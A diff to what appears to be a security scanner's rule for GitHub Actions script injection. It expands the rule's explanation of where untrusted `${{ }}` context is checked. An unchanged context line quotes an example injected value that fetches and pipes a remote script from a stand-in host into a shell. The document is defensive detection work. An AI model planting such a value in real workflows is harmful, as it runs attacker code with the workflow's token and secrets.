@@ -83,7 +83,10 @@ def _hit(line: int, found: list[tuple[str, list[str], list[str]]], where: str) -
     title="Untrusted GitHub context interpolated into a run script",
     why="`${{ }}` expressions are pasted into the script before the shell runs it, so a pull-request "
         "title, branch name, commit message or comment such as `\"; curl evil.sh | sh; \"` executes "
-        "with the workflow's token and secrets.",
+        "with the workflow's token and secrets. Checked in `run:` steps, `actions/github-script` `script:` "
+        "and other script inputs, in workflows and composite actions (`action.yml`), directly or through "
+        "`env.X`/`matrix.X`; a composite action's or reusable workflow's own string `inputs.X` is LOW "
+        "(its callers decide what it holds).",
     fix="Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) "
         "and use `\"$TITLE\"` in the script; in github-script read `context.payload` or `process.env` instead.",
     kinds={"gha"},
